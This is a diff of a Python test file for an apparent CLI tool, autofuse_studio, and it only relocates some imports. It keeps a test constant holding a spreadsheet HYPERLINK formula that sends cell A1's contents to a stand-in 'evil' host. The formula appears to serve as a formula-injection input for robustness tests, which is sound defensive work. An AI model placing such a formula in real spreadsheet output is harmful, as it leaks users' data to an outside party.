@@ -15,8 +15,8 @@ import pytest
 
 from autofuse_studio.cli.console import EscapingStream
 from autofuse_studio.cli.progress import clear_progress_line, terminal_progress
-from autofuse_studio.core.synth import CaseSpec, demo_spec, generate_case
 from tests.robustness.conftest import run_cli
+from tests.synth import CaseSpec, demo_spec, generate_case
 
 FORMULA = '=HYPERLINK("http://evil/?x="&A1,"click")'
 
@@ -63,7 +63,7 @@ def test_rank_values_are_one_sentence(tmp_path: Path, value: str) -> None:
 
 
 def test_leading_zeros_and_duplicates_still_name_one_rank() -> None:
-    from autofuse_studio.cli.nwa import parse_ranks
+    from autofuse_studio.cli.run_args import parse_ranks
 
     assert parse_ranks("0007, 7,000") == ["7", "0"]
     assert parse_ranks(None) is None
